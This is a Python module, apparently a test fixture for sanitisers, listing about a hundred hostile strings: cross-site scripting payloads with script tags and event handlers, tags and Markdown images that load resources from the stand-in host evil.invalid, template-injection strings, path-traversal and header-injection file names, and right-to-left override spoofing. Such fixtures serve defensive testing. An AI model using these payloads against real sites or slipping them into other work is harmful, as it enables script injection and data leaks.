"""A hundred strings that want to be more than text: HTML, scripts, Markdown with addresses, styles, file names."""

from __future__ import annotations

FAR = "http://evil.invalid"

_ATTRIBUTES = ("onerror", "onload", "onclick", "onmouseover", "onfocus", "ontoggle", "onanimationstart", "onbegin")
_TAGS = ("img", "svg", "body", "input autofocus", "details open", "video", "audio", "iframe", "object", "embed", "math")

HANDLERS = [f"<{tag} src=x {name}=window.owned=1>" for tag, name in zip(_TAGS * 2, _ATTRIBUTES * 3, strict=False)]

SCRIPTS = [
    "<script>window.owned=1</script>",
    "</script><script>window.owned=1</script>",
    f"<script src={FAR}/x.js></script>",
    "<ScRiPt>window.owned=1</sCrIpT>",
    "<svg><script>window.owned=1</script></svg>",
    "<svg/onload=window.owned=1>",
    "<math><mtext></mtext><script>window.owned=1</script></math>",
    '"><script>window.owned=1</script>',
    "'><img src=x onerror=window.owned=1>",
    "--><script>window.owned=1</script>",
    "]]><script>window.owned=1</script>",
    "</textarea><script>window.owned=1</script>",
    "</style><script>window.owned=1</script>",
    "</title><script>window.owned=1</script>",
    "${window.owned=1}",
    "{{constructor.constructor('window.owned=1')()}}",
    "`;window.owned=1;//",
    "{{#each value}}{{this}}{{/each}}",
    "javascript:window.owned=1",
    "<a href=javascript:window.owned=1>click</a>",
    "<iframe srcdoc='<script>parent.owned=1</script>'></iframe>",
    "<template><script>window.owned=1</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=window.owned=1>'>",
    "<svg><animate onbegin=window.owned=1 attributeName=x dur=1s></svg>",
    "<form action=javascript:window.owned=1><button>go</button></form>",
]

REQUESTS = [
    f"![x]({FAR}/a.png)",
    f"![x]({FAR}/a.png 'title')",
    f"[![x]({FAR}/a.png)]({FAR})",
    f"<img src={FAR}/b.png>",
    f"<img srcset='{FAR}/c.png 2x'>",
    f"<picture><source srcset={FAR}/d.png><img></picture>",
    f"<link rel=stylesheet href={FAR}/e.css>",
    f"<link rel=preload as=image href={FAR}/f.png>",
    f"<link rel=dns-prefetch href={FAR}>",
    f"<style>@import '{FAR}/g.css';</style>",
    f"<style>body{{background:url({FAR}/h.png)}}</style>",
    f"<p style='background:url({FAR}/i.png)'>x</p>",
    f"<video poster={FAR}/j.png></video>",
    f"<audio src={FAR}/k.mp3 autoplay></audio>",
    f"<object data={FAR}/l></object>",
    f"<embed src={FAR}/m>",
    f"<iframe src={FAR}/n></iframe>",
    f"<svg><image href={FAR}/o.png /></svg>",
    f"<svg><use href={FAR}/p.svg#x /></svg>",
    f"<meta http-equiv=refresh content='0;url={FAR}'>",
    f"<base href={FAR}/>",
    f"<input type=image src={FAR}/q.png>",
    f"<table background={FAR}/r.png>",
    f"<body background={FAR}/s.png>",
    f"<script type=module>import '{FAR}/t.js'</script>",
]

MARKDOWN = [
    f"[click]({FAR})",
    "[click](javascript:window.owned=1)",
    f"<{FAR}>",
    f"[x]: {FAR}/a 'b'",
    "```html\n<script>window.owned=1</script>\n```",
    "`<img src=x onerror=window.owned=1>`",
    "**<img src=x onerror=window.owned=1>**",
    "*<svg onload=window.owned=1>*",
    "# <script>window.owned=1</script>",
    "- <img src=x onerror=window.owned=1>",
    "1. <script>window.owned=1</script>",
    "> <script>window.owned=1</script>",
    "| a | <script>window.owned=1</script> |",
    "$\\href{javascript:window.owned=1}{x}$",
    "$$\\includegraphics{http://evil.invalid/x.png}$$",
    "&lt;script&gt;window.owned=1&lt;/script&gt;",
    "&#60;img src=x onerror=window.owned=1&#62;",
    "\ue0000:x\ue001 \ue000999:y\ue001",
    "\u202egnp.exe\u2066",
    "r1 r2 img_1 c1 [r99](#) <a href=#r1>r1</a>",
]

NAMES = [
    "<img src=x onerror=window.owned=1>.png",
    '"><script>window.owned=1<script>.png',
    "../../../../etc/passwd.png",
    "..\\..\\windows\\win.ini.png",
    "a\x00b\r\nset-cookie: x=y.png",
    "receipt.png' onmouseover='window.owned=1",
    "\u202egnp.tpircs.png",
    f"{FAR}/x.png",
]

HOSTILE = [*HANDLERS, *SCRIPTS, *REQUESTS, *MARKDOWN, *NAMES]
